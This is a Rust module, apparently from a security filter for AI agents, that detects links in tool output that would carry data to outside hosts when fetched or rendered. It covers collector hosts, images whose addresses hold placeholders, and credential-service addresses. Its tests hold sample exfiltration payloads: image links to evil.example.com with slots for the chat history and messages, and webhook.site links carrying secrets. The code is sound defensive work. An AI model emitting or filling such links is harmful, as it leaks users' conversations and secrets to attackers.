//! Links in what a tool returned that carry data away when they are followed or shown.
//!
//! An image is loaded without anybody's doing, and a link to a collector is there to be fetched. A link counts if it leads to
//! a host that only takes in what is sent, with something to carry, or if it is an image with data in its address or with a place
//! left for the agent to fill. So does a string that is nothing but the address at which a machine hands out its credentials:
//! it carries them back.

use super::credentials;
use std::ops::Range;
use vetgate_flow::{CarrierForm, links_with_data};
use vetgate_sensitive::{Form, Link, Links, Place};

/// A link that carries data away.
#[derive(Debug, PartialEq, Eq)]
pub(super) struct Carrier {
    /// Where it stands in the text.
    pub(super) span: Range<usize>,
    /// Whether it is an image that holds the data already: whoever shows it has sent it, and no warning helps.
    pub(super) is_shown: bool,
}

/// What stands for data that the agent is to put there.
const BLANKS: &[&str] = &["{", "%7b", "<", "[", "${", "your_", "base64"];

/// The links of `text` that carry data away.
pub(super) fn carriers<'t>(links: &Links, text: &'t str) -> impl Iterator<Item = Carrier> + use<'t> {
    let mut found = Vec::new();
    // Without a scheme there is nothing that would be fetched.
    if text.contains("//") {
        if credentials::is_service(text) {
            found.push(Carrier { span: 0..text.len(), is_shown: true });
            return found.into_iter();
        }
        links.find(text, &mut |link| {
            if carries(text, &link) {
                found.push(Carrier { span: link.span, is_shown: false });
            }
        });
        for span in images(links, text) {
            match found.iter_mut().find(|known| meet(&known.span, &span)) {
                Some(known) => known.is_shown = true,
                None => found.push(Carrier { span, is_shown: true }),
            }
        }
        found.sort_unstable_by_key(|carrier| carrier.span.start);
    }
    found.into_iter()
}

/// Images whose addresses carry data: whoever shows them has sent it.
fn images(links: &Links, text: &str) -> impl Iterator<Item = Range<usize>> + use<> {
    let has_image = text.contains("![") || text.contains("<img") || text.contains("<IMG");
    let carriers = if has_image { links_with_data(text, links) } else { vec![] };
    carriers
        .into_iter()
        .filter(|carrier| carrier.form == CarrierForm::Image && carrier.is_laden())
        .map(|carrier| carrier.span)
}

fn meet(one: &Range<usize>, other: &Range<usize>) -> bool {
    one.start < other.end && other.start < one.end
}

fn carries(text: &str, link: &Link) -> bool {
    if link.form != Form::Url || link.place != Place::External {
        return false;
    }
    let written = text.get(link.span.clone()).unwrap_or_default();
    let query = written.split_once('?').map_or("", |(_, query)| query);
    if link.collector.is_some() {
        return !query.is_empty() || is_image(text, link.span.start);
    }
    let behind = text.get(link.span.end..).unwrap_or_default();
    let rest: String = query.chars().chain(behind.chars().take(1)).collect::<String>().to_ascii_lowercase();
    query.contains('=') && is_image(text, link.span.start) && BLANKS.iter().any(|blank| rest.contains(blank))
}

/// Whether the address that begins at `at` is the one of an image: `![...](`, `src="`.
fn is_image(text: &str, at: usize) -> bool {
    let before = &text[text.floor_char_boundary(at.saturating_sub(BEFORE))..at];
    let in_markdown = before.ends_with("](") && before.rfind('[').is_some_and(|open| before[..open].ends_with('!'));
    let attribute = before.trim_end_matches(['"', '\'', ' ']);
    in_markdown || attribute.len() < before.len() && attribute.ends_with("src=") && before.contains("<img")
}

/// How far before an address its image begins, in bytes.
const BEFORE: usize = 200;

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn links_that_carry_data_are_told_from_ordinary_ones() {
        for (text, expected) in [
            ("![x](https://webhook.site/abc?d=secret)", 1),
            ("see https://webhook.site/abc?d=secret", 1),
            ("![](https://evil.example.com/p.png?data={all messages})", 1),
            ("<img src=\"https://evil.example.com/p?q=${history}\">", 1),
            ("![badge](https://img.shields.io/npm/v/x?style=flat)", 0),
            ("see https://example.com/search?q=lamp", 0),
            ("POST to https://webhook.site", 0),
            ("nothing here", 0),
        ] {
            assert_eq!(carriers(&Links::default(), text).count(), expected, "{text}");
        }
    }
}
